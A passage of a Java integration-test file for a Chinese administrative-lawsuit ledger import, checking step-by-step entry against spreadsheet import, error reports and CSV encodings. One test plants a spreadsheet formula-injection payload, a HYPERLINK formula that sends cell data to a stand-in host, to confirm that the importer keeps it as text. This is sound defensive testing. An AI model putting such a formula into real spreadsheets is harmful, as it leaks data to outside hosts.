package cn.fuyi.ledger;

import static cn.fuyi.support.Api.createOrgan;
import static cn.fuyi.support.Api.createRespondent;
import static cn.fuyi.support.Api.obj;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import cn.fuyi.common.CsvFiles;
import cn.fuyi.support.Api;
import cn.fuyi.support.LawsuitWalk;
import cn.fuyi.support.Ledgers;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;

/**
 * The lawsuit ledger (行政应诉案件台账, with head appearances) through the API. Thirteen lawsuits of 2022-2023 are
 * entered step by step for one organ and imported from the template for another, from one plan:
 *
 * <pre>
 * suit inst    filed       defendants counsel         sessions (first defendant)                         outcome
 * L1   first   2022-10-10  A          external        2022-12-05 principal spoke; 2023-03-08 no head,   2023-04-20 REVOKE
 *                                                     not notified
 * L2   first   2022-11-14  B          public lawyer   served 11-20, reported 11-21, defence 12-01;       2023-02-15 REJECT_CLAIMS,
 *                                                     2022-12-20 deputy silent                           served 02-17, final 03-10
 * L3   first   2023-01-09  A + organ  public lawyer   2023-03-15 no head (duty), staff                   2023-06-20 CONFIRM_ILLEGAL,
 *                                                                                                        served 06-25, appealed
 * L4   appeal  2023-07-10  A + organ  legal adviser   2023-09-12 principal spoke                         2023-10-30 APPEAL_REJECTED
 * L5   first   2023-02-06  A          external        2023-04-11 principal spoke                         2023-05-30 PARTIAL_REVOKE, redo
 * L6   first   2023-03-20  A          legal adviser   none                                               2023-05-08 withdrawn, act changed
 * L7   first   2023-04-03  B          public lawyer   none                                               2023-06-05 withdrawn
 * L8   first   2023-04-17  B          none            2023-07-04 no head, no reason given                2023-09-05 DISMISS_SUIT
 * L9   first   2023-06-12  A          public lawyer   2023-09-19 no head; 2023-11-21 principal spoke     pending
 * L10  first   2023-09-04  B          legal adviser   served 2023-09-10                                  pending
 * L11  first   2023-05-08  B          public lawyer   simplified; 2023-08-15 principal silent            2023-11-14 ALTER
 * L12  first   2023-08-21  organ      legal adviser   2023-10-17 principal spoke                         2023-12-05 REJECT_CLAIMS
 * L13  first   2023-02-20  A          public lawyer   2023-05-16 deputy spoke                            2023-07-18 ORDER_PERFORMANCE,
 *                                                                                                        served 07-20, final 08-10
 * </pre>
 *
 * 2023: suits filed 11 (first 10, appeal 1); lost 5 (L1 L3 L5 L11 L13).
 */
@QuarkusTest
class LawsuitLedgerImportTest {

    static final String SHEET = "行政应诉案件台账";
    static final String A = "应诉台账测试市自然资源和规划局";
    static final String B = "应诉台账测试市城厢镇人民政府";

    static long walked;
    static long imported;
    static String importedName;
    static String walkedName;
    static byte[] ledger;
    static JsonPath job;

    /** One attendance at a session, for the first defendant. */
    private record Session(String date, boolean head, String name, String rank, boolean spoke, boolean notified, String absence,
            String staff) {

        static Session head(String date, String name, String rank, boolean spoke) {
            return new Session(date, true, name, rank, spoke, true, null, null);
        }

        static Session noHead(String date, boolean notified, String absence) {
            return new Session(date, false, null, null, false, notified, absence, "冯科长");
        }
    }

    /** One lawsuit of the plan: how to enter it step by step, and the same facts as a ledger row. */
    private static final class Suit {
        final String number;
        final String instance;
        final String previous;
        final String filed;
        final String counsel;
        final List<String> defendants;
        String served;
        String reported;
        String defence;
        boolean simplified;
        final List<Session> sessions = new ArrayList<>();
        String outcome;
        String outcomeDate;
        String outcomeServed;
        boolean redo;
        boolean withdrawnChanged;
        String finalDate;

        Suit(String number, String instance, String previous, String filed, String counsel, String... defendants) {
            this.number = number;
            this.instance = instance;
            this.previous = previous;
            this.filed = filed;
            this.counsel = counsel;
            this.defendants = List.of(defendants);
        }

        Suit session(Session s) {
            sessions.add(s);
            return this;
        }

        Suit outcome(String date, String outcome, String served) {
            this.outcomeDate = date;
            this.outcome = outcome;
            this.outcomeServed = served;
            return this;
        }

        String court(String suffix) {
            return (instance.equals("APPEAL") ? "应诉台账测试市中级人民法院" : "应诉台账测试市人民法院") + suffix;
        }

        Map<String, String> row(String organName) {
            Map<String, String> m = new LinkedHashMap<>();
            m.put("法院案号", number);
            m.put("审理法院", court("（导入）"));
            m.put("审级", Map.of("FIRST", "一审", "APPEAL", "二审").get(instance));
            m.put("原审案号", previous);
            m.put("原告", "钱多多");
            m.put("原告类型", "自然人");
            m.put("被告", String.join("、", defendants.stream().map(d -> d.equals("O") ? organName : d.equals("A") ? A : B).toList()));
            m.put("行政管理类别", "行政处罚");
            m.put("行政管理领域", "NATURAL_RESOURCES");
            m.put("被诉行政行为", "行政处罚决定");
            m.put("诉讼请求", "请求撤销被诉行政行为");
            m.put("立案日期", filed);
            m.put("收到起诉状副本日期", served);
            m.put("报备日期", reported);
            m.put("提交答辩状日期", defence);
            m.put("适用简易程序", simplified ? "是" : null);
            m.put("代理人类型", counsel);
            for (int i = 0; i < sessions.size(); i++) {
                Session s = sessions.get(i);
                String p = "第" + (i + 1) + "次";
                m.put(p + "开庭日期", s.date());
                m.put(p + "负责人出庭", s.head() ? "是" : "否");
                m.put(p + "出庭负责人", s.name());
                m.put(p + "负责人职务", s.head() ? ("PRINCIPAL".equals(s.rank()) ? "局长" : "副局长") : null);
                m.put(p + "负责人级别", s.rank() == null ? null : "PRINCIPAL".equals(s.rank()) ? "正职负责人" : "副职负责人");
                m.put(p + "负责人出声", s.head() ? (s.spoke() ? "是" : "否") : null);
                m.put(p + "法院通知负责人出庭", s.notified() ? "是" : "否");
                m.put(p + "负责人未出庭原因", s.absence());
                m.put(p + "出庭工作人员", s.staff());
            }
            m.put("裁判结果", outcome);
            m.put("裁判日期", outcomeDate);
            m.put("裁判文书送达日期", outcomeServed);
            m.put("判决重作", redo ? "是" : null);
            m.put("改变行为后撤诉", withdrawnChanged ? "是" : null);
            m.put("生效日期", finalDate);
            return m;
        }

        LawsuitWalk walk(long organ, Map<String, Long> respondents, Map<String, LawsuitWalk> done) {
            List<Map<String, Object>> defs = new ArrayList<>();
            for (String d : defendants) {
                defs.add(d.equals("O") ? obj("organId", organ) : obj("respondentId", respondents.get(d)));
            }
            Long prev = previous == null ? null : done.get(previous).id;
            String code = code(cn.fuyi.litigation.CounselType.class, counsel);
            LawsuitWalk w = LawsuitWalk.register(organ, court("（逐步）"), number, instance, prev, filed, code, defs,
                    "plaintiffs", List.of(obj("kind", "NATURAL_PERSON", "name", "钱多多")), "simplified", simplified);
            if (served != null) {
                w.step("record-service", obj("date", served));
            }
            if (reported != null) {
                w.step("record-report", obj("date", reported));
            }
            if (defence != null) {
                w.step("submit-defence", obj("date", defence));
            }
            for (Session s : sessions) {
                Map<String, Object> a = obj("defendantId", w.defendant(0), "headAppeared", s.head(), "courtNotifiedHead", s.notified());
                if (s.head()) {
                    a.putAll(obj("headName", s.name(), "headPosition", "PRINCIPAL".equals(s.rank()) ? "局长" : "副局长", "headRank",
                            s.rank(), "headSpoke", s.spoke()));
                } else {
                    a.putAll(obj("absenceReason", s.absence(), "entrustedStaff", List.of(s.staff())));
                }
                w.step("hold-session", obj("date", s.date(), "appearances", List.of(a)));
            }
            if (outcome != null) {
                Map<String, Object> body = obj("date", outcomeDate, "outcome", code(cn.fuyi.litigation.outcome.Outcome.class, outcome),
                        "servedDate", outcomeServed);
                if (redo) {
                    body.put("orderToRedo", true);
                }
                if (withdrawnChanged) {
                    body.put("withdrawnAfterActChanged", true);
                }
                w.step("record-outcome", body);
            }
            if (finalDate != null) {
                w.step("become-final", obj("date", finalDate));
            }
            return w;
        }
    }

    /** The API's code of a ledger cell that holds a label or a code. */
    static <E extends Enum<E> & cn.fuyi.common.Labelled> String code(Class<E> type, String cell) {
        for (E e : type.getEnumConstants()) {
            if (e.labelZh().equals(cell) || e.name().equals(cell)) {
                return e.name();
            }
        }
        throw new AssertionError(cell);
    }

    static List<Suit> plan() {
        List<Suit> p = new ArrayList<>();
        Suit l1 = new Suit("(2022)苏0585行初101号", "FIRST", null, "2022-10-10", "外聘律师", "A")
                .session(Session.head("2022-12-05", "吴局长", "PRINCIPAL", true))
                .session(Session.noHead("2023-03-08", false, null)).outcome("2023-04-20", "REVOKE", null);
        p.add(l1);
        Suit l2 = new Suit("(2022)苏0585行初102号", "FIRST", null, "2022-11-14", "公职律师", "B")
                .session(Session.head("2022-12-20", "王副镇长", "DEPUTY", false)).outcome("2023-02-15", "REJECT_CLAIMS", "2023-02-17");
        l2.served = "2022-11-20";
        l2.reported = "2022-11-21";
        l2.defence = "2022-12-01";
        l2.finalDate = "2023-03-10";
        p.add(l2);
        p.add(new Suit("(2023)苏0585行初1号", "FIRST", null, "2023-01-09", "PUBLIC_LAWYER", "A", "O")
                .session(Session.noHead("2023-03-15", true, "DUTY_NO_ONE_ELSE")).outcome("2023-06-20", "判决确认违法", "2023-06-25"));
        p.add(new Suit("(2023)苏05行终7号", "APPEAL", "(2023)苏0585行初1号", "2023-07-10", "法律顾问", "A", "O")
                .session(Session.head("2023-09-12", "吴局长", "PRINCIPAL", true)).outcome("2023-10-30", "APPEAL_REJECTED", null));
        Suit l5 = new Suit("(2023)苏0585行初2号", "FIRST", null, "2023-02-06", "外聘律师", "A")
                .session(Session.head("2023-04-11", "吴局长", "PRINCIPAL", true)).outcome("2023-05-30", "PARTIAL_REVOKE", null);
        l5.redo = true;
        p.add(l5);
        Suit l6 = new Suit("(2023)苏0585行初5号", "FIRST", null, "2023-03-20", "法律顾问", "A").outcome("2023-05-08", "裁定准予撤诉", null);
        l6.withdrawnChanged = true;
        p.add(l6);
        p.add(new Suit("(2023)苏0585行初6号", "FIRST", null, "2023-04-03", "公职律师", "B").outcome("2023-06-05", "WITHDRAWAL_APPROVED", null));
        p.add(new Suit("(2023)苏0585行初7号", "FIRST", null, "2023-04-17", "无", "B")
                .session(Session.noHead("2023-07-04", true, "NONE_GIVEN")).outcome("2023-09-05", "DISMISS_SUIT", null));
        p.add(new Suit("(2023)苏0585行初9号", "FIRST", null, "2023-06-12", "公职律师", "A")
                .session(Session.noHead("2023-09-19", true, "DUTY_NO_ONE_ELSE"))
                .session(Session.head("2023-11-21", "吴局长", "PRINCIPAL", true)));
        Suit l10 = new Suit("(2023)苏0585行初10号", "FIRST", null, "2023-09-04", "法律顾问", "B");
        l10.served = "2023-09-10";
        p.add(l10);
        Suit l11 = new Suit("(2023)苏0585行初8号", "FIRST", null, "2023-05-08", "公职律师", "B")
                .session(Session.head("2023-08-15", "李镇长", "PRINCIPAL", false)).outcome("2023-11-14", "ALTER", null);
        l11.simplified = true;
        p.add(l11);
        p.add(new Suit("(2023)苏0585行初12号", "FIRST", null, "2023-08-21", "法律顾问", "O")
                .session(Session.head("2023-10-17", "陈市长", "PRINCIPAL", true)).outcome("2023-12-05", "REJECT_CLAIMS", null));
        Suit l13 = new Suit("(2023)苏0585行初3号", "FIRST", null, "2023-02-20", "公职律师", "A")
                .session(Session.head("2023-05-16", "王副局长", "DEPUTY", true)).outcome("2023-07-18", "ORDER_PERFORMANCE", "2023-07-20");
        l13.finalDate = "2023-08-10";
        p.add(l13);
        return p;
    }

    @BeforeEach
    void bothOrgans() {
        if (walked != 0) {
            return;
        }
        walkedName = Api.unique("应诉台账测试市人民政府（逐步录入）");
        walked = createOrgan(walkedName, "应逐复〔{year}〕{seq}号", null);
        importedName = Api.unique("应诉台账测试市人民政府（台账导入）");
        imported = createOrgan(importedName, "应导复〔{year}〕{seq}号", null);
        Map<String, Long> respondents = Map.of("A", createRespondent(walked, A, "GOVERNMENT_DEPARTMENT"), "B",
                createRespondent(walked, B, "TOWNSHIP_GOVERNMENT"));
        createRespondent(imported, A, "GOVERNMENT_DEPARTMENT");
        createRespondent(imported, B, "TOWNSHIP_GOVERNMENT");
        Map<String, LawsuitWalk> done = new HashMap<>();
        List<Map<String, String>> rows = new ArrayList<>();
        for (Suit s : plan()) {
            done.put(s.number, s.walk(walked, respondents, done));
            rows.add(s.row(importedName));
        }
        ledger = Ledgers.xlsx("lawsuits", SHEET, imported, rows);
        job = Ledgers.run("lawsuits", imported, ledger, "lawsuits-2023.xlsx", "allOrNothing");
    }

    private static JsonPath statistics(String path, long organ, Object... params) {
        var spec = given().accept("application/json").queryParam("organId", organ);
        for (int i = 0; i < params.length; i += 2) {
            spec = spec.queryParam((String) params[i], params[i + 1]);
        }
        return spec.get("/api/v1/statistics/litigation" + path).then().statusCode(200).extract().jsonPath();
    }

    private static List<Map<String, Object>> lawsuits(long organ) {
        List<Map<String, Object>> items = given().queryParam("organId", organ).queryParam("size", 100).get("/api/v1/lawsuits").then()
                .statusCode(200).extract().jsonPath().getList("items");
        List<Map<String, Object>> out = new ArrayList<>();
        for (Map<String, Object> i : items) {
            Map<String, Object> m = new java.util.TreeMap<>();
            for (String k : List.of("courtCaseNumber", "instance", "state", "defendantNames", "filedDate", "servedDate", "outcome",
                    "loss", "outcomeDate", "nextDeadlineKind", "nextDueDate", "overdue", "reportStatus")) {
                m.put(k, String.valueOf(i.get(k)).replace(walkedName, "本机关").replace(importedName, "本机关"));
            }
            out.add(m);
        }
        out.sort(java.util.Comparator.comparing(m -> (String) m.get("courtCaseNumber")));
        return out;
    }

    private static long lawsuitId(long organ, String number) {
        List<Map<String, Object>> items = given().queryParam("organId", organ).queryParam("size", 100).get("/api/v1/lawsuits").then()
                .statusCode(200).extract().jsonPath().getList("items");
        return items.stream().filter(i -> number.equals(i.get("courtCaseNumber"))).map(i -> ((Number) i.get("id")).longValue())
                .findFirst().orElseThrow(() -> new AssertionError("no lawsuit " + number));
    }

    @Test
    void theImportWroteEveryRow() {
        assertEquals("SUCCEEDED", job.getString("state"), job.prettify());
        assertEquals(13, job.getInt("rowsWritten"), job.prettify());
        assertEquals(0, job.getInt("rowsFailed"));
        assertEquals("lawsuits", job.getString("ledger"));
    }

    @Test
    void theImportedLawsuitsHaveTheStatisticsOfTheLawsuitsEnteredStepByStep() {
        for (int year : List.of(2022, 2023)) {
            JsonPath a = statistics("", walked, "year", year);
            JsonPath b = statistics("", imported, "year", year);
            assertEquals(a.getMap("counts"), b.getMap("counts"), "counts of " + year);
            assertEquals(a.getList("rates"), b.getList("rates"), "rates of " + year);
            JsonPath ag = statistics("/agencies", walked, "year", year);
            JsonPath bg = statistics("/agencies", imported, "year", year);
            for (String part : List.of("defendantType", "kind", "counts", "lossRate", "headAppearanceRate")) {
                assertEquals(ag.getList("rows." + part), bg.getList("rows." + part), "agencies' " + part + " of " + year);
            }
        }
        JsonPath b = statistics("", imported, "year", 2023);
        assertEquals(11, b.getInt("counts.suits"), b.prettify());
        assertEquals(1, b.getInt("counts.suitsAppeal"));
        assertEquals(5, b.getInt("counts.suitsLost"), "L1 L3 L5 L11 L13");
        assertEquals(1, b.getInt("counts.withdrawnAfterActChanged"));
        assertTrue(b.getInt("counts.suitsHeadAppeared") > 0 && b.getInt("counts.sessionsHeadAppeared") > 0, b.prettify());
        assertEquals(lawsuits(walked), lawsuits(imported), "same states, outcomes and next deadlines");
    }

    @Test
    void theImportedEventsCarryTheirRowAndTheCourtNumberIsKept() {
        long appeal = lawsuitId(imported, "(2023)苏05行终7号");
        long first = lawsuitId(imported, "(2023)苏0585行初1号");
        given().get("/api/v1/lawsuits/" + appeal).then().statusCode(200).body("previousLawsuitId", equalTo((int) first))
                .body("courtCaseNumber", equalTo("(2023)苏05行终7号")).body("instance", equalTo("APPEAL"));
        given().get("/api/v1/lawsuits/" + first).then().statusCode(200).body("state", equalTo("APPEALED"));
        JsonPath events = given().get("/api/v1/lawsuits/" + lawsuitId(imported, "(2022)苏0585行初102号") + "/events").then().statusCode(200)
                .extract().jsonPath();
        assertEquals(List.of("REGISTER", "RECORD_SERVICE", "RECORD_REPORT", "SUBMIT_DEFENCE", "HOLD_SESSION", "RECORD_OUTCOME",
                "BECOME_FINAL"), events.getList("transition", String.class));
        assertEquals(3, events.getInt("[0].details.importedFrom.row"));
        assertEquals("lawsuits-2023.xlsx", events.getString("[6].details.importedFrom.file"));
        assertEquals("2022-12-20", events.getString("[4].date"));
        // the audit trail holds the import, once: by whom, from which file, the lawsuit as imported and the steps taken
        Api.awaitSequenced();
        JsonPath trail = given().header("Authorization", cn.fuyi.support.Tokens.bearer(cn.fuyi.support.Tokens.of("aud", "审计",
                java.util.Set.of("auditor"), List.of(), "ALL", null))).queryParam("subjectType", "LAWSUIT")
                .queryParam("subjectId", lawsuitId(imported, "(2022)苏0585行初102号")).get("/api/v1/audit").then().statusCode(200).extract().jsonPath();
        assertEquals(List.of("IMPORTED"), importOperations("LAWSUIT", lawsuitId(imported, "(2022)苏0585行初102号")));
        assertEquals(events.getList("transition", String.class), trail.getList("items.find { it.operation == 'IMPORTED' }.changes.importedSteps.after", String.class));
        assertTrue(trail.getString("items.find { it.operation == 'IMPORTED' }.reason").contains("lawsuits-2023.xlsx"));
    }

    /** The operations of a record's audit trail, readings of personal data left out. */
    private static List<String> importOperations(String subjectType, long id) {
        Api.awaitSequenced();
        List<String> operations = new ArrayList<>(given().header("Authorization", cn.fuyi.support.Tokens.bearer(cn.fuyi.support.Tokens.of("aud",
                "审计", java.util.Set.of("auditor"), List.of(), "ALL", null))).queryParam("subjectType", subjectType).queryParam("subjectId", id)
                .get("/api/v1/audit").then().statusCode(200).extract().jsonPath().getList("items.operation", String.class));
        operations.removeIf("READ_PERSONAL_DATA"::equals);
        return operations;
    }

    @Test
    void reImportingTheSameFileChangesNothing() {
        List<Map<String, Object>> before = lawsuits(imported);
        long id = lawsuitId(imported, "(2022)苏0585行初101号");
        int events = given().get("/api/v1/lawsuits/" + id + "/events").then().extract().jsonPath().getList("$").size();
        JsonPath again = Ledgers.run("lawsuits", imported, ledger, "lawsuits-2023.xlsx", "validRows");
        assertEquals("SUCCEEDED", again.getString("state"), again.prettify());
        assertEquals(0, again.getInt("rowsWritten"));
        assertEquals(13, again.getInt("rowsUnchanged"));
        assertEquals(0, again.getInt("rowsFailed"));
        assertEquals(before, lawsuits(imported));
        assertEquals(events, given().get("/api/v1/lawsuits/" + id + "/events").then().extract().jsonPath().getList("$").size());

        // the same court number with different facts is refused
        Map<String, String> changed = plan().get(0).row(importedName);
        changed.put("立案日期", "2022-10-11");
        JsonPath refused = Ledgers.run("lawsuits", imported, Ledgers.xlsx("lawsuits", SHEET, imported, List.of(changed)), "改.xlsx",
                "validRows");
        assertTrue(has(refused, 2, "法院案号", "LEDGER_IMPORTED_DIFFERENTLY"), refused.prettify());
    }

    @Test
    void theTemplateHasChineseHeadersNotesAndDropdowns() throws IOException {
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(Ledgers.template("lawsuits", imported)))) {
            Sheet data = wb.getSheet(SHEET);
            assertEquals("法院案号", data.getRow(0).getCell(0).getStringCellValue());
            List<String> headers = new ArrayList<>();
            data.getRow(0).forEach(c -> headers.add(c.getStringCellValue()));
            assertTrue(headers.containsAll(List.of("第1次开庭日期", "第1次负责人出庭", "第3次出庭负责人", "裁判结果", "生效日期")), headers.toString());
            assertTrue(data.getDataValidations().size() >= 10, "dropdowns: " + data.getDataValidations().size());
            Sheet notes = wb.getSheet("填写说明");
            StringBuilder all = new StringBuilder();
            for (Row r : notes) {
                for (Cell c : r) {
                    all.append(c.getStringCellValue()).append('\n');
                }
            }
            assertTrue(all.toString().contains("负责人出庭台账"), "the notes explain the row shape");
            assertTrue(all.toString().contains("第六十七条"));
            Sheet codes = wb.getSheet("代码表");
            assertEquals(SheetVisibility.HIDDEN, wb.getSheetVisibility(wb.getSheetIndex(codes)));
            List<String> values = new ArrayList<>();
            for (Row r : codes) {
                for (Cell c : r) {
                    values.add(c.getStringCellValue());
                }
            }
            assertTrue(values.containsAll(List.of(A, importedName, "一审", "正职负责人", "判决撤销", "公职律师", "行政处罚")), values.toString());
        }
    }

    private static boolean has(JsonPath job, int row, String column, String code) {
        return job.<Map<String, Object>>getList("errors").stream().anyMatch(e -> ((Number) e.get("row")).intValue() == row
                && column.equals(e.get("column")) && code.equals(e.get("code")));
    }

    private static String message(JsonPath job, int row, String column) {
        return job.<Map<String, Object>>getList("errors").stream().filter(e -> ((Number) e.get("row")).intValue() == row
                && column.equals(e.get("column"))).map(e -> (String) e.get("message")).findFirst()
                .orElseThrow(() -> new AssertionError("no error at " + row + " " + column + ": " + job.prettify()));
    }

    private static Map<String, String> suit(String number, String... more) {
        Map<String, String> m = new Suit(number, "FIRST", null, "2024-03-04", "公职律师", "A").row(importedName);
        m.put("审理法院", "应诉台账错误测试法院");
        for (int i = 0; i < more.length; i += 2) {
            m.put(more[i], more[i + 1]);
        }
        return m;
    }

    @Test
    void aFileWithEveryKindOfErrorGetsAReportNamingEachCell() throws IOException {
        long organ = createOrgan(Api.unique("应诉台账错误测试机关"), "应错复〔{year}〕{seq}号", null);
        createRespondent(organ, A, "GOVERNMENT_DEPARTMENT");
        // a lawsuit already in Fuyi, entered through the API
        long respondent = given().queryParam("organId", organ).get("/api/v1/respondents").then().extract().jsonPath().getLong("items[0].id");
        LawsuitWalk.register(organ, "应诉台账错误测试法院", "(2024)苏0585行初99号", "FIRST", null, "2024-02-01", "PUBLIC_LAWYER",
                List.of(obj("respondentId", respondent)));
        List<Map<String, String>> rows = List.of(
                suit("(2024)苏0585行初1号", "被告", A),                                                           // 2: valid
                suit("(2024)苏0585行初2号", "被告", A, "原告", null),                                               // 3: required
                suit("(2024)苏0585行初3号", "被告", A, "收到起诉状副本日期", "2024-03-01"),                          // 4: order
                suit("(2024)苏0585行初4号", "被告", A, "行政管理类别", "行政处法"),                                  // 5: code list
                suit("(2024)苏0585行初5号", "被告", "应诉台账测试市自然资源局"),                                     // 6: respondent
                suit("(2024)苏0585行初6号", "被告", A, "立案日期", "2024-02-30"),                                   // 7: date
                suit("(2024)苏0585行初1号", "被告", A),                                                           // 8: duplicate in file
                suit("(2024)苏0585行初99号", "被告", A),                                                          // 9: in Fuyi already
                suit("(2024)苏0585行初10号", "被告", A, "提交答辩状日期", "2024-03-20"),                             // 10: needs
                suit("(2024)苏0585行初11号", "被告", A, "第1次开庭日期", "2024-04-01", "第1次负责人出庭", "是",
                        "第1次出庭负责人", "吴局长", "第1次负责人级别", "正职负责人", "第1次负责人未出庭原因", "意外事件"),   // 11: exclusive
                suit("(2024)苏0585行初12号", "被告", A, "裁判结果", "驳回上诉，维持原裁判", "裁判日期", "2024-05-01"), // 12: engine rule
                suit("(2024)苏0585行初13号", "被告", A, "审级", "三审"),                                            // 13: enum code
                suit("(2024)苏0585行初14号", "被告", A, "第1次开庭日期", "2024-04-01", "第1次负责人出庭", "也许"),     // 14: yes/no
                suit("(2024)苏0585行初15号", "被告", A, "立案日期", "2027-03-04"),                                  // 15: future
                suit("(2024)苏0585行初16号", "被告", A, "审级", "二审", "原审案号", "(2020)苏0585行初1号"),           // 16: unknown first instance
                suit("(2024)苏0585行初17号", "被告", A, "第1次开庭日期", "2024-04-01", "第1次负责人出庭", "否",
                        "第1次出庭负责人", "吴局长"),                                                              // 17: only with a head
                suit("苏0585行初18", "被告", A));                                                                  // 18: court number format
        long id = Ledgers.start("lawsuits", organ, Ledgers.xlsx("lawsuits", SHEET, organ, rows), "错误台账.xlsx", "dryRun");
        JsonPath job = Ledgers.await(id);
        assertEquals("SUCCEEDED", job.getString("state"), job.prettify());
        assertEquals(17, job.getInt("rowsRead"));
        assertEquals(1, job.getInt("rowsValid"), job.prettify());
        assertEquals(0, job.getInt("rowsWritten"));
        assertEquals(16, job.getInt("rowsFailed"), job.prettify());
        assertTrue(has(job, 3, "原告", "LEDGER_REQUIRED"));
        assertEquals("第 4 行「收到起诉状副本日期」早于「立案日期」。", message(job, 4, "收到起诉状副本日期"));
        assertTrue(message(job, 5, "行政管理类别").contains("行政处罚"), message(job, 5, "行政管理类别"));
        assertTrue(has(job, 6, "被告", "LEDGER_RESPONDENT"));
        assertTrue(message(job, 6, "被告").contains(A), message(job, 6, "被告"));
        assertTrue(has(job, 7, "立案日期", "LEDGER_DATE"));
        assertEquals("第 8 行「法院案号」“(2024)苏0585行初1号”与第 2 行重复。", message(job, 8, "法院案号"));
        assertTrue(has(job, 9, "法院案号", "LEDGER_DUPLICATE_IN_DB"));
        assertTrue(has(job, 10, "收到起诉状副本日期", "LEDGER_NEEDS"));
        assertTrue(has(job, 11, "第1次负责人未出庭原因", "LEDGER_EXCLUSIVE"));
        assertTrue(has(job, 12, "裁判日期", "OUTCOME_NOT_FOR_INSTANCE"), job.prettify());
        assertTrue(message(job, 12, "裁判日期").startsWith("第 12 行「裁判日期」："), message(job, 12, "裁判日期"));
        assertTrue(has(job, 13, "审级", "LEDGER_CODE"));
        assertTrue(message(job, 13, "审级").contains("二审"), message(job, 13, "审级"));
        assertTrue(has(job, 14, "第1次负责人出庭", "LEDGER_CODE"));
        assertTrue(has(job, 15, "立案日期", "LEDGER_FUTURE"));
        assertTrue(has(job, 16, "原审案号", "LEDGER_PREVIOUS_UNKNOWN"));
        assertTrue(has(job, 17, "第1次出庭负责人", "LEDGER_ONLY_WHEN_HEAD_APPEARED"));
        assertTrue(has(job, 18, "法院案号", "LEDGER_FIELD_RULE"), job.prettify());
        assertEquals(1, given().queryParam("organId", organ).get("/api/v1/lawsuits").then().extract().jsonPath().getList("items").size(),
                "a dry run writes nothing: only the lawsuit entered through the API");

        JsonPath english = Ledgers.await(id, "en");
        assertTrue(english.getList("errors.message", String.class).contains("Row 4: \"收到起诉状副本日期\" is earlier than \"立案日期\"."),
                english.getList("errors.message").toString());
        assertTrue(english.getList("errors.message", String.class).stream().anyMatch(m -> m.startsWith("Row 18, \"法院案号\": ")
                && !m.contains("field.")), english.getList("errors.message").toString());

        byte[] report = given().get("/api/v1/imports/" + id + "/report").then().statusCode(200).extract().asByteArray();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(report))) {
            Sheet sheet = wb.getSheet("导入报告");
            int errorColumn = sheet.getRow(0).getLastCellNum() - 1;
            assertEquals("错误", sheet.getRow(0).getCell(errorColumn).getStringCellValue());
            assertTrue(sheet.getRow(3).getCell(errorColumn).getStringCellValue().contains("「收到起诉状副本日期」早于「立案日期」"));
            assertTrue(wb.getSheet("错误明细").getLastRowNum() >= 16);
        }

        // a file without a required column is rejected as a whole
        JsonPath headerless = Ledgers.run("lawsuits", organ, "法院案号,审理法院\n(2024)苏0585行初1号,某法院\n".getBytes(StandardCharsets.UTF_8),
                "缺列.csv", "validRows");
        assertEquals("REJECTED", headerless.getString("state"));
        assertTrue(has(headerless, 1, "立案日期", "LEDGER_HEADER_MISSING"), headerless.prettify());
    }

    @Test
    void formulaLookingCellsStayTextAndGb18030CsvIsRead() throws IOException {
        long organ = createOrgan(Api.unique("应诉台账编码测试机关"), "应码复〔{year}〕{seq}号", null);
        createRespondent(organ, A, "GOVERNMENT_DEPARTMENT");
        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
        Map<String, String> row = suit("(2024)苏0585行初21号", "被告", A, "原告", formula, "审理法院", "应诉台账编码测试法院");
        JsonPath x = Ledgers.run("lawsuits", organ, Ledgers.xlsx("lawsuits", SHEET, organ, List.of(row)), "公式.xlsx", "validRows");
        assertEquals(1, x.getInt("rowsWritten"), x.prettify());
        long id = lawsuitId(organ, "(2024)苏0585行初21号");
        given().get("/api/v1/lawsuits/" + id).then().statusCode(200).body("plaintiffs[0].name", equalTo(formula));
        long dry = Ledgers.start("lawsuits", organ, Ledgers.xlsx("lawsuits", SHEET, organ, List.of(row)), "公式.xlsx", "dryRun");
        Ledgers.await(dry);
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(given().get("/api/v1/imports/" + dry + "/report")
                .then().statusCode(200).extract().asByteArray()))) {
            Row header = wb.getSheet("导入报告").getRow(0);
            int plaintiff = -1;
            for (Cell c : header) {
                if ("原告".equals(c.getStringCellValue())) {
                    plaintiff = c.getColumnIndex();
                }
            }
            Cell c = wb.getSheet("导入报告").getRow(1).getCell(plaintiff);
            assertEquals(formula, c.getStringCellValue());
            assertTrue(c.getCellStyle().getQuotePrefixed());
        }

        List<Map<String, String>> rows = List.of(
                suit("(2024)苏0585行初22号", "被告", A, "原告", "张三丰", "审理法院", "应诉台账编码测试法院", "立案日期", "2024/3/6",
                        "第1次开庭日期", "2024年4月2日", "第1次负责人出庭", "否", "第1次负责人未出庭原因", "意外事件"),
                suit("(2024)苏0585行初23号", "被告", A, "原告", "慕容台账", "审理法院", "应诉台账编码测试法院", "行政管理类别",
                        "ADMINISTRATIVE_PENALTY"));
        JsonPath gb = Ledgers.run("lawsuits", organ, Ledgers.csv(rows, CsvFiles.GB18030, false), "应诉台账.csv", "validRows");
        assertEquals("SUCCEEDED", gb.getString("state"), gb.prettify());
        assertEquals("GB18030", gb.getString("encoding"));
        assertEquals(2, gb.getInt("rowsWritten"), gb.prettify());
        long zhang = lawsuitId(organ, "(2024)苏0585行初22号");
        given().get("/api/v1/lawsuits/" + zhang).then().statusCode(200).body("plaintiffs[0].name", equalTo("张三丰"))
                .body("filedDate", equalTo("2024-03-06"));
        JsonPath events = given().get("/api/v1/lawsuits/" + zhang + "/events").then().statusCode(200).extract().jsonPath();
        assertEquals("2024-04-02", events.getString("find { it.transition == 'HOLD_SESSION' }.date"));
